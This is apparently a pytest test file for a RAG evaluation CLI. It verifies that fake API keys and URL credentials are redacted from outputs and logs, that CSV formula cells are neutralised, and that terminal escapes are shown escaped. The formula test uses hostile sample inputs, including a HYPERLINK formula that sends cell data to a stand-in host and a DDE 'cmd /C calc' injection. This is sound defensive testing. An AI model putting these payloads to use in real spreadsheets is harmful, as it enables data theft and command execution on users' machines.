"""A recognisable fake API key in the environment never lands in an output file, a log line or an error message.

The judge is a loopback server that requires that key, and -- like real endpoints do -- echoes the bearer token in its
error messages (401 for a wrong key, 500s on first attempts). The CLI runs as a real process with debug logging.
"""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from open_rag_eval.judge.sim_http import Response, json_response
from open_rag_eval.judge.simulated import SimulatedJudgeServer, SimulatedServerConfig
from tests.openai_server import ECHO_KEY, Reply, ScriptedServer
from tests.rag_server import RagBehaviour, RagServer
from tests.test_faults_api_errors import synthetic_outputs, write_inputs

ROOT = Path(__file__).resolve().parent.parent
KEY_ENV = "OPEN_RAG_EVAL_FAULTS_FAKE_KEY"
FAKE_KEY = "sk-faults-FAKEKEY-7f3a9c1e5b2d4068aa11bb22cc33dd44"
FRAGMENTS = (FAKE_KEY, FAKE_KEY[10:30], FAKE_KEY[-16:])  # the key, or a recognisable piece of it


class _EchoingServer(SimulatedJudgeServer):
    """Requires ``expected`` as the bearer token and repeats whatever token it got in its error messages."""

    def __init__(self, expected: str) -> None:
        super().__init__(SimulatedServerConfig(retry_after_s=0.01))
        self.expected = expected
        self._failed_once: set[bytes] = set()

    async def _complete(self, request: Any, record: Any) -> Response | None:
        token = request.headers.get("authorization", "").removeprefix("Bearer ")
        if token != self.expected:
            return _echo(401, f"Incorrect API key provided: {token}. You can find your API key in your account.")
        if request.body not in self._failed_once:  # every request fails once, then succeeds on its retry
            self._failed_once.add(request.body)
            return _echo(500, f"The server had an error while processing the request of key {token}")
        return await super()._complete(request, record)


def _echo(status: int, message: str) -> Response:
    return json_response(status, {"error": {"message": message, "type": "invalid_request_error", "param": None,
                                            "code": "invalid_api_key" if status == 401 else None}})


def _run(folder: Path, config: dict[str, Any], key: str | None) -> subprocess.CompletedProcess[str]:
    path = folder / "config.yaml"
    path.write_text(yaml.safe_dump(config), encoding="utf-8")
    env = {k: v for k, v in os.environ.items() if k != KEY_ENV}
    if key is not None:
        env[KEY_ENV] = key
    return subprocess.run([sys.executable, "-m", "open_rag_eval", "-v", "eval", "--config", str(path)],
                          cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)


def _judge(base_url: str, cache: Path) -> dict[str, Any]:
    return {"model": "gpt-4o-mini", "base_url": base_url, "api_key_env": KEY_ENV, "cache": str(cache),
            "max_retries": 3, "backoff_base_s": 0.01, "backoff_cap_s": 0.02}


def _assert_nowhere(done: subprocess.CompletedProcess[str], *folders: Path) -> None:
    for fragment in FRAGMENTS:
        assert fragment not in done.stdout and fragment not in done.stderr
        for folder in folders:
            for path in folder.rglob("*"):
                if path.is_file():
                    assert fragment.encode() not in path.read_bytes(), path.name


def test_key_never_written_on_success(tmp_path: Path) -> None:
    data = write_inputs(tmp_path, synthetic_outputs(3))
    with _EchoingServer(FAKE_KEY) as server:
        config = {"input": str(data), "output_dir": str(tmp_path / "out"),
                  "judge": _judge(server.base_url, tmp_path / "cache" / "judge.sqlite"),
                  "evaluators": [{"type": "trec", "metrics": ["umbrela", "citation", "no_answer"]}]}
        done = _run(tmp_path, config, FAKE_KEY)
        errors_seen = sum(1 for record in server.stats.log if record.status == 500)
    assert done.returncode == 0, done.stderr
    assert errors_seen > 0 and "HTTP 500: The server had an error while processing the request of key ***" in done.stderr
    # the echoing errors were reported (the progress line's last retry reason) -- redacted
    _assert_nowhere(done, tmp_path / "out", tmp_path / "cache")
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["judge"]["api_key_env"] == KEY_ENV
    assert manifest["config"]["judge"]["api_key_env"] == KEY_ENV


def test_rejected_key_is_not_repeated_in_the_error(tmp_path: Path) -> None:
    data = write_inputs(tmp_path, synthetic_outputs(2))
    with _EchoingServer("sk-the-right-key-is-another-one") as server:
        config = {"input": str(data), "output_dir": str(tmp_path / "out"),
                  "judge": _judge(server.base_url, tmp_path / "cache.sqlite"),
                  "evaluators": [{"type": "trec", "metrics": ["umbrela"]}]}
        done = _run(tmp_path, config, FAKE_KEY)
    assert done.returncode == 4, done.stderr
    assert "refused the credentials (HTTP 401" in done.stderr and KEY_ENV in done.stderr
    assert "Traceback" not in done.stderr
    _assert_nowhere(done, tmp_path)


def test_peer_config_key_reference_keeps_only_the_name(tmp_path: Path) -> None:
    """The peer writes ``api_key: ${oc.env:NAME}``: the translated config and the manifest keep the reference."""
    data = tmp_path / "results" / "answers.csv"  # the peer's answers live in its results folder
    data.parent.mkdir()
    data.write_text("query_id,query,passage_id,passage,generated_answer\n"
                    "q1,Why is the sky blue?,[1],Rayleigh scattering makes the sky blue.,Scattering [1].\n",
                    encoding="utf-8")
    with _EchoingServer(FAKE_KEY) as server:
        peer = {"input_queries": "queries.csv", "results_folder": "results/", "generated_answers": "answers.csv",
                "eval_results_file": "results.csv", "metrics_file": "metrics.png",
                "evaluator": {"type": "TRECEvaluator",
                              "model": {"type": "OpenAIModel", "name": "gpt-4o-mini", "base_url": server.base_url,
                                        "api_key": "${oc.env:" + KEY_ENV + "}"},
                              "options": {"k_values": [1]}}}
        done = _run(tmp_path, peer, FAKE_KEY)
    assert done.returncode == 0, done.stderr
    _assert_nowhere(done, tmp_path)
    manifests = list(tmp_path.rglob("manifest.json"))
    assert len(manifests) == 1
    assert KEY_ENV in manifests[0].read_text(encoding="utf-8")


# -- one redaction point: connector secret headers, a key echoed across a cut, URL credentials ----------------------

RAG_ENV = "OPEN_RAG_EVAL_FAULTS_RAG_KEY"
RAG_KEY = "rq7Zx9KpW2vNt4Lm8Yc3Hd6Fb"  # no recognisable word: any 6 characters of it found in a file are a leak
JUDGE_KEY = "sk-fake-Qm4Tz8Wc1Vr6Nh3Jd7Kb9Xp2Ly5Gf0Hs"  # a made-up key
RAG_PASSWORD, RAG_LITERAL = "Vx3Bn7Qw1Ze5Rt9Yu", "lit8Kc2Mv6Np0Qs4Wx"  # in the URL; a literal X-Api-Key header value


def _pieces(secret: str, size: int = 6) -> list[str]:
    """Every prefix of ``secret`` of at least ``size`` characters, and every window of ``size`` characters."""
    return sorted({secret[:k] for k in range(size, len(secret) + 1)} | {secret[i:i + size]
                                                                        for i in range(len(secret) - size + 1)})


def _assert_absent(secret: str, done: subprocess.CompletedProcess[str], folder: Path) -> None:
    pieces = _pieces(secret)
    for piece in pieces:
        assert piece not in done.stdout and piece not in done.stderr, piece
    for path in folder.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            leaked = [piece for piece in pieces if piece.encode() in data]
            assert not leaked, (path.name, leaked)


def _run_env(folder: Path, config: dict[str, Any], env: dict[str, str], *extra: str) -> subprocess.CompletedProcess[str]:
    path = folder / "config.yaml"
    path.write_text(yaml.safe_dump(config), encoding="utf-8")
    return subprocess.run([sys.executable, "-m", "open_rag_eval", "-v", "eval", "--config", str(path), *extra],
                          cwd=ROOT, env={**os.environ, **env}, capture_output=True, text=True, timeout=300)


# from offset 144 or 150 the key starts at character 186 or 192: the old cut at 200 kept 14 or 8 of its characters
@pytest.mark.parametrize("offset", [0, 144, 150])
def test_rag_server_echoing_the_secret_header_leaks_it_nowhere(tmp_path: Path, offset: int) -> None:
    """401 and 500 pages repeat the secret header (after padding that puts it across the 200-character cut of
    a connector error): the failed outputs keep their reasons, the secret is in no file, log line or console line."""
    (tmp_path / "queries.csv").write_text("query_id,query\nq1,Why is the sky blue?\nq2,What is solar power?\n"
                                          "q3,How do tides work?\n", encoding="utf-8")
    behaviour = RagBehaviour(fail={"q1": [401], "q2": [500, 500, 500]}, echo_header="X-Rag-Key",
                             echo_offset=offset)
    with RagServer(behaviour) as server:
        config = {"connector": {"type": "http", "queries": "queries.csv",
                                "options": {"url": server.url.replace("://", f"://rag:{RAG_PASSWORD}@"),
                                            "headers": {"X-Api-Key": RAG_LITERAL}, "retries": 2, "backoff_s": 0,
                                            "body": {"query": "{query}", "query_id": "{query_id}"},
                                            "secret_headers": {"X-Rag-Key": {"env": RAG_ENV,
                                                                                 "prefix": "Bearer "}}}},
                  "output_dir": "out", "judge": {"model": "simulated-judge", "simulated": {"seed": 1},
                                                 "cache": False},
                  "evaluators": [{"type": "trec", "metrics": ["umbrela", "citation"]}]}
        done = _run_env(tmp_path, config, {RAG_ENV: RAG_KEY})
        sent = [{k.lower(): v for k, v in request["headers"].items()}.get("x-rag-key") for request in server.requests]
    assert f"Bearer {RAG_KEY}" in sent  # the server did get the secret, and echoed it
    assert done.returncode in (0, 6), done.stderr
    outputs = (tmp_path / "out" / "outputs.jsonl").read_text(encoding="utf-8")
    assert "HTTP 401" in outputs and "HTTP 500" in outputs  # the reasons are kept, minus the secret
    assert "HTTP 401" in done.stderr or "HTTP 500" in done.stderr
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    options = manifest["config"]["connector"]["options"]
    assert options["url"] == server.url and options["headers"] == {"X-Api-Key": "***"}
    assert options["secret_headers"]["X-Rag-Key"]["env"] == RAG_ENV
    for secret in (RAG_KEY, RAG_PASSWORD, RAG_LITERAL):
        _assert_absent(secret, done, tmp_path / "out")
    _assert_absent(RAG_KEY, done, tmp_path)


@pytest.mark.parametrize("offset", [250, 262, 268])
def test_judge_echoing_the_key_across_the_cut_leaks_no_prefix(tmp_path: Path, offset: int) -> None:
    """A 422 whose message repeats the key from character ``offset`` on: the old cut at 300 characters came before
    the redaction and left the key's first characters in results and the report."""
    data = write_inputs(tmp_path, synthetic_outputs(2))
    with ScriptedServer(default=Reply.echo_key(422, offset)) as server:
        config = {"input": str(data), "output_dir": str(tmp_path / "out"),
                  "judge": {**_judge(server.base_url, tmp_path / "cache.sqlite"), "max_retries": 0},
                  "evaluators": [{"type": "trec", "metrics": ["umbrela"]}]}
        done = _run_env(tmp_path, config, {KEY_ENV: JUDGE_KEY})
        seen = [{k.lower(): v for k, v in request.headers.items()}.get("authorization") for request in server.completions]
    assert f"Bearer {JUDGE_KEY}" in seen
    assert "Traceback" not in done.stderr
    written = "".join(p.read_text(encoding="utf-8", errors="replace") for p in (tmp_path / "out").rglob("*")
                      if p.is_file())
    assert "HTTP 422" in written + done.stderr  # the judge's reason is reported, cut after its redaction
    _assert_absent(JUDGE_KEY, done, tmp_path)


def test_url_credentials_leave_the_manifest_and_messages(tmp_path: Path) -> None:
    """A password (and a token in the query string) written into judge.base_url: the manifest keeps scheme, host
    and path; the password is in no file and no log line even when the endpoint repeats the URL."""
    password, token = "pw9Qz3Lk7Rt5Vb1Nx", "tk4Hs8Jd2Mf6Pw0Gy"
    data = write_inputs(tmp_path, synthetic_outputs(2))
    with ScriptedServer(default=Reply.error(400, "bad request to BASE")) as server:
        host = server.base_url.split("://", 1)[1]
        base_url = f"http://evaluator:{password}@{host}"
        server.default = Reply.error(400, f"bad request to {base_url}/chat/completions?api_key={token}")
        config = {"input": str(data), "output_dir": str(tmp_path / "out"),
                  "judge": {"model": "gpt-4o-mini", "base_url": base_url, "cache": False, "max_retries": 0,
                            "api_key_env": KEY_ENV},
                  "evaluators": [{"type": "trec", "metrics": ["umbrela"]}]}
        done = _run_env(tmp_path, config, {KEY_ENV: FAKE_KEY})
    assert server.completions and "Traceback" not in done.stderr
    manifest = json.loads((tmp_path / "out" / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["config"]["judge"]["base_url"] == server.base_url
    assert manifest["judge"]["base_url"] == server.base_url
    _assert_absent(password, done, tmp_path / "out")
    _assert_absent(token, done, tmp_path / "out")
    for piece in _pieces(password) + _pieces(token):
        assert piece not in done.stderr


# -- hostile content: formula cells, terminal escapes -------------------------------------------------------------


def test_formula_cells_are_neutralised_and_read_back(tmp_path: Path) -> None:
    """Ids and queries that start a spreadsheet formula are written as text ('=...) in results.csv; report and compare
    read them back unchanged; numbers (also negative ones in compare.csv) stay numbers."""
    hostile = [("=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0"),
               ("@SUM(1+1)*cmd", "-2+3"), ("-7", "+44 20 7946 0000"), ("q-plain", "=1+1")]
    outputs = [{"query_id": qid, "query": query, "run": 1, "answer": "Energy [1].",
                "passages": [{"id": "1", "text": "energy grid"}]} for qid, query in hostile]
    data = write_inputs(tmp_path, outputs)
    config = {"input": str(data), "output_dir": "out",
              "judge": {"model": "simulated-judge", "simulated": {"seed": 1}, "cache": False},
              "evaluators": [{"type": "trec", "metrics": ["umbrela", "citation"]}]}
    done = _run_env(tmp_path, config, {})
    assert done.returncode == 0, done.stderr
    with (tmp_path / "out" / "results.csv").open(encoding="utf-8", newline="") as handle:
        table = list(csv.DictReader(handle))
    cells = [(row["query_id"], row["query"]) for row in table]
    assert cells == [("'" + hostile[0][0], "'" + hostile[0][1]), ("'" + hostile[1][0], "'" + hostile[1][1]),
                     ("-7", "'+44 20 7946 0000"), ("q-plain", "'=1+1")]
    for row in table:
        for name, cell in row.items():
            assert not cell[:1] in ("=", "+", "@", "\t", "\r") and not (cell.startswith("-") and cell != "-7"), name
    from open_rag_eval.report.loader import load_results

    assert [(row.query_id, row.query) for row in load_results(tmp_path / "out").rows] == hostile
    summary = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8")
    assert "'" not in summary


def test_negative_differences_stay_numbers_in_compare_csv(tmp_path: Path) -> None:
    header = "query_id,query,run,umbrela.mean\n"
    (tmp_path / "a.csv").write_text(header + "".join(f"-q{i},=x{i},1,0.9\n" for i in range(6)), encoding="utf-8")
    (tmp_path / "b.csv").write_text(header + "".join(f"-q{i},=x{i},1,0.{i}\n" for i in range(6)), encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "open_rag_eval", "compare", str(tmp_path / "a.csv"),
                           str(tmp_path / "b.csv"), "--output-dir", str(tmp_path / "cmp")],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    with (tmp_path / "cmp" / "compare.csv").open(encoding="utf-8", newline="") as handle:
        row = next(csv.DictReader(handle))
    assert float(row["diff"]) < 0 and row["diff"].startswith("-")  # a number, not a text cell
    assert float(row["ci95_low"]) < 0


def test_terminal_escapes_in_ids_and_reasons_are_never_printed_raw(tmp_path: Path) -> None:
    """Ids, queries and a RAG server's error page carrying escape sequences (clear screen, retitle the window, a
    carriage return, a right-to-left override) reach the console escaped."""
    escapes = "\x1b[2J\x1b]0;owned\x07\r\u202e"
    (tmp_path / "queries.csv").write_text(f'query_id,query\n"q{escapes}1","Why{escapes}?"\n', encoding="utf-8")
    with RagServer(RagBehaviour(fail={f"q{escapes}1": [403]})) as server:
        server.behaviour.echo_header = "X-Trace"
        config = {"connector": {"type": "http", "queries": "queries.csv",
                                "options": {"url": server.url, "retries": 0, "backoff_s": 0,
                                            "headers": {"X-Trace": "trace\x1b[2J\x1b]0;owned\x07"},
                                            "body": {"query": "{query}", "query_id": "{query_id}"}}},
                  "output_dir": "out", "judge": {"model": "simulated-judge", "simulated": {"seed": 1},
                                                 "cache": False},
                  "evaluators": [{"type": "trec", "metrics": ["umbrela"]}]}
        done = _run_env(tmp_path, config, {})
    console = done.stdout + done.stderr
    assert "\\x1b[2J" in console and "\\x1b]0;owned\\a" in console  # shown, escaped
    for raw in ("\x1b", "\x07", "\r", "\u202e"):
        assert raw not in console


def test_a_key_repeated_in_a_successful_reply_is_kept_in_no_file(tmp_path: Path) -> None:
    """A proxy or model that repeats the bearer token inside a 200 reply: the grade is read, the key is masked
    before the reply reaches the cache, the results or the report."""
    data = write_inputs(tmp_path, synthetic_outputs(2))
    with ScriptedServer(default=Reply.ok(f"Relevant. (request key {ECHO_KEY})\n##final score: 2")) as server:
        config = {"input": str(data), "output_dir": str(tmp_path / "out"),
                  "judge": _judge(server.base_url, tmp_path / "cache" / "judge.sqlite"),
                  "evaluators": [{"type": "trec", "metrics": ["umbrela"]}]}
        done = _run_env(tmp_path, config, {KEY_ENV: JUDGE_KEY})
        assert server.completions
    assert done.returncode == 0, done.stderr
    with (tmp_path / "out" / "results.csv").open(encoding="utf-8", newline="") as handle:
        assert {row["umbrela.mean"] for row in csv.DictReader(handle)} == {"2.0"}
    _assert_absent(JUDGE_KEY, done, tmp_path)
